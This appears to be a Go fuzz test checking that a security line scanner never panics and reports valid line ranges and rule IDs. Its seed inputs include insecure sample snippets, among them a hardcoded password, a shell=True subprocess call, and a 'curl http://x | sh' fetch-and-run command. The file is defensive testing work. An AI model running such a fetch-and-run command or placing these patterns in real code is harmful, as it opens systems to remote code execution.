package fuzz

import (
	"testing"

	"github.com/CEA-Brad/avast-toolkit/internal/catalog"
	"github.com/CEA-Brad/avast-toolkit/internal/scanner"
)

// Fuzz the line scanner with arbitrary content to ensure we never panic.
// The catalog is loaded once: rules are immutable after compile.
func FuzzScanFileNoPanic(f *testing.F) {
	cat, err := catalog.Load()
	if err != nil {
		f.Fatalf("load catalog: %v", err)
	}
	rules := cat.Rules()

	seeds := [][]byte{
		[]byte("const password = \"hunter2\";\n"),
		[]byte("import pickle\nsubprocess.run(cmd, shell=True)\n"),
		[]byte("\x00binary-ish\x00content"),
		[]byte("no newline at all"),
		[]byte("curl http://x | sh\n"),
	}
	for _, s := range seeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		for _, path := range []string{"f.js", "f.py", "f.sh", "f.unknown"} {
			findings, err := scanner.ScanFile(path, data, rules)
			if err != nil {
				continue // unbufferable input is an error, never a panic
			}
			for _, fd := range findings {
				if fd.Lines.Start < 1 || fd.Lines.End < fd.Lines.Start {
					t.Fatalf("bad line range %+v in %s", fd.Lines, path)
				}
				if fd.RuleID == "" {
					t.Fatalf("finding without rule id: %+v", fd)
				}
			}
		}
	})
}
